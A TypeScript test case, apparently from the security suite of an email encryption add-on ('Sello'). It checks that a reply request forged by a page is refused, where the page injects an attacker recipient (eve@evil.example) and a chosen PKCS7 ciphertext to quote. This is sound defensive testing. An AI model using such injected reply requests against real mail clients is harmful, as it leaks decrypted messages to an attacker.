/**
 * Reply oracle through the page: the page asks for "Reply with Sello" but supplies the recipients or
 * the quoted text itself, so that decrypted content goes to the attacker or a ciphertext of its
 * choosing is quoted (and decrypted) into the reply. owa.reply carries a message id only: the worker
 * builds the reply from that message, to its sender, quoting only what the read frame displays, and
 * only when Sello's compose frame loads it after a trusted click (test/e2e/owa).
 */
import type { DraftOracleCase } from '../lib/draft-oracle-case';

const attack: DraftOracleCase = {
  name: 'draft-oracle-reply-injected-content',
  class: 'draft-oracle',
  source: 'Re: What’s up Johnny? (Müller et al., 2019) and Mailto: Me Your Secrets (NDSS 2020)',
  request: {
    type: 'owa.reply',
    messageId: 'AAMkAGI2TG93AAA=',
    to: ['eve@evil.example'],
    quote: '-----BEGIN PKCS7-----',
  },
  refusedWith: 'message.invalid',
  honest: { type: 'owa.reply', messageId: 'AAMkAGI2TG93AAA=' },
};
export default attack;
